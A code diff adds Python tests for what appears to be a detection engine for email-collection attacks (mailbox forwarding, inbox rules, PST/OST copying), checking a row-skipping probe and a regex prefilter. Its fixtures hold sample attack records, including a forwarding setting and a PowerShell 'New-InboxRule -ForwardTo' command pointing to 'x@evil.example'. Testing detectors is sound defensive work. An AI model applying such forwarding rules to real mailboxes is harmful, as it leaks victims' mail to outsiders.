@@ -142,3 +142,111 @@ def test_allowlist_index_suppresses_as_the_walk_does(tmp_path, mix):
     assert found == _suppressions(walked, records)
     suppressed = [rule for rule, by, status in found if status == "suppressed"]
     assert suppressed and len(suppressed) < len(found)
+
+
+class _NoProbe:
+    """The engine with the record path's pre-build probe answering "build it and see" always."""
+
+    def __init__(self, engine):
+        self._engine = engine
+        self.findings = engine.findings
+
+    @staticmethod
+    def no_rule_wants(sourcetype, operation):
+        return False
+
+
+def _chunk_output(engine, records, keep_all):
+    import io
+
+    from t1114_protocol.chunk_csv import ChunkWriter, annotate_chunk
+    from tools.chunked_client import encode_records
+    writer = ChunkWriter()
+    body = encode_records(records)
+    annotate_chunk(io.StringIO(body.decode("utf-8") if isinstance(body, bytes) else body, newline="\n"),
+                   engine, writer, keep_all)
+    return bytes(writer.body())
+
+
+@pytest.mark.parametrize("source", MIXES + ("light", "rule_tests", "edge"))
+def test_probe_skips_only_rows_without_findings_and_changes_no_output(engine, source):
+    """Engine.no_rule_wants (rows decided from their sourcetype and Operation cells, no record
+    built): every row it skips has no finding with or without allowlists, and a chunk's output is
+    byte-identical with the probe and without it, in mode=all and mode=findings."""
+    edge = [
+        {"sourcetype": "o365:management:activity", "Operation": "", "_raw": '{"Operation":"New-InboxRule"}'},
+        {"sourcetype": "O365:Management:Activity", "Operation": "Set-Mailbox", "Parameters{}.Name": "ForwardingSmtpAddress",
+         "Parameters{}.Value": "x@evil.example", "_raw": ""},
+        {"sourcetype": ["o365:management:activity", "x"], "Operation": "UserLoggedIn"},
+        {"sourcetype": "o365:management:activity", "Operation": ["UserLoggedIn", "New-InboxRule"]},
+        {"sourcetype": "ms365:defender", "Operation": "FileAccessed"},
+        {"sourcetype": "WinEventLog", "Operation": "UserLoggedIn", "EventCode": "4688",
+         "CommandLine": "powershell New-InboxRule -ForwardTo x@evil.example"},
+    ]
+    records = {"light": lambda: make_records(5, 1500, 0.05), "rule_tests": rule_test_records,
+               "edge": lambda: edge}.get(source, lambda: mix_records(source))()
+    skipped = 0
+    for record in records:
+        sourcetype, operation = record.get("sourcetype", ""), record.get("Operation", "")
+        if isinstance(sourcetype, str) and isinstance(operation, str) and engine.no_rule_wants(sourcetype, operation):
+            skipped += 1
+            assert engine.findings(record, True) == [] and engine.findings(record, False) == [], record
+    if source in ("tenant", "light", "edge"):
+        assert skipped
+    for keep_all in (True, False):
+        assert _chunk_output(engine, records, keep_all) == _chunk_output(_NoProbe(engine), records, keep_all)
+
+
+def _rule_patterns():
+    from app.rules import read_rule_documents
+    from tests.conftest import REPO
+
+    def walk(node):
+        if isinstance(node, dict):
+            if "matches" in node:
+                yield node["matches"]
+            for value in node.values():
+                yield from walk(value)
+        elif isinstance(node, list):
+            for value in node:
+                yield from walk(value)
+    return sorted({pattern for document in read_rule_documents(REPO + "/app/rules") for pattern in walk(document)})
+
+
+@pytest.mark.parametrize("source", MIXES + ("light", "rule_tests"))
+def test_regex_literal_precheck_rules_out_only_texts_the_regex_does_not_match(engine, source):
+    """app/regex_literals.py: where the pre-check says no, the pattern's search finds nothing,
+    for every rule's `matches` pattern, on every text of the mix and its normalised events."""
+    from app.regex_literals import prefilter
+    records = {"light": lambda: make_records(5, 1500, 0.05), "rule_tests": rule_test_records}.get(
+        source, lambda: mix_records(source, 600))()
+    texts = {as_text(value) for record in records for value in record.values()}
+    for record in records:
+        for event in normalise(record, engine.context):
+            texts.add(as_text(event.text))
+            texts.update(as_text(value) for value in event.extra.values())
+    texts.update(("C:\\x.PST", "C:\\x.p\u017ft", "rob\u00f6copy ROBOCOPY.exe", "\u212a7z", "7Z.EXE", "a.OST b",
+                  "INVOKE-SELFSEARCH", "Invoke-SelfSearch -x", "\\\\server\\share", "GetNameSpace ( 'MAPI'"))
+    patterns = [re.compile(pattern) for pattern in _rule_patterns()]
+    checked = 0
+    for pattern in patterns:
+        may_match = prefilter(pattern)
+        assert may_match is not None, pattern.pattern   # every shipped pattern names its words
+        for text in texts:
+            if not may_match(text):
+                assert pattern.search(text) is None, (pattern.pattern, text)
+                checked += 1
+    assert checked
+
+
+@pytest.mark.parametrize("pattern, text", [
+    (r"a|.*", "zzz"), (r"(?i:pst)x", "PSTx"), (r"x?", ""), (r"(?s)a.b", "a\nb"), (r"[^a]bc", "xbc"),
+    (r"(|pst)", "q"), (r"\d+", "42"),
+])
+def test_regex_literal_precheck_declines_or_agrees_on_awkward_patterns(pattern, text):
+    from app.regex_literals import prefilter
+    compiled = re.compile(pattern)
+    may_match = prefilter(compiled)
+    assert may_match is None or may_match(text) or compiled.search(text) is None
+    assert prefilter(re.compile(r"(?i)\.(pst|ost)"))("C:\\x.p\u017ft")   # non-ASCII: always searched
+    assert not prefilter(re.compile(r"(?i)\.(pst|ost)"))("C:\\x.txt")
